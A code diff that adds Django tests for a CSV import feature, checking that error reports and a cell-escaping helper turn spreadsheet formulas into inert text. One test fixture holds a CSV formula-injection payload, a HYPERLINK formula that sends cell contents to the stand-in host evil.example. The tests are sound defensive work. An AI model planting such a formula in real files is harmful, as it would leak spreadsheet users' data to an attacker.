@@ -1,11 +1,14 @@
 """CSV import: real-world file quirks, idempotent re-import, bad rows, and the pages."""
 
+import csv
+import io
 from decimal import Decimal
 
 import pytest
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.urls import reverse
 
+from leadroute.shared.csv_export import csv_cell
 from pools.capture.imports import mapping as m
 from pools.capture.imports.parsing import csv_inspect, csv_rows
 from pools.capture.imports.services import (
@@ -305,3 +308,32 @@ def test_mapping_page_offers_the_decimal_mark(manager, source, client_for):
     c.post(page, {**data, "decimal_mark": "."})
     job.refresh_from_db()
     assert job.status != ImportJob.Status.MAPPING and job.decimal_mark == "."
+
+
+def test_the_error_report_cannot_carry_a_formula_to_a_spreadsheet(manager, client_for, source):
+    # A stranger's file names its e-mail column with a formula: the report echoes the
+    # column's name beside each bad row, as text a spreadsheet will not run.
+    header = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    content = f'"{header.replace(chr(34), chr(34) * 2)}",Phone\r\nnot-an-email,\r\n'.encode()
+    job = run_import(manager, source, content, mapping={header: "email", "Phone": "phone"})
+    report = client_for(manager).get(f"/leads/import/{job.pk}/errors.csv")
+    rows = list(csv.reader(io.StringIO(report.content.decode("utf-8-sig"))))
+    assert rows[0] == ["row", "column", "reason"]
+    assert [row[1] for row in rows[1:]] == ["'" + header]
+
+
+@pytest.mark.parametrize(
+    "value, written",
+    [
+        ("=1+1", "'=1+1"),
+        ("+33 1 23", "'+33 1 23"),
+        ("-2", "'-2"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t=1"),
+        ("Acme = best", "Acme = best"),
+        (-2, -2),
+        (None, None),
+    ],
+)
+def test_csv_cells_that_a_spreadsheet_would_run_become_text(value, written):
+    assert csv_cell(value) == written
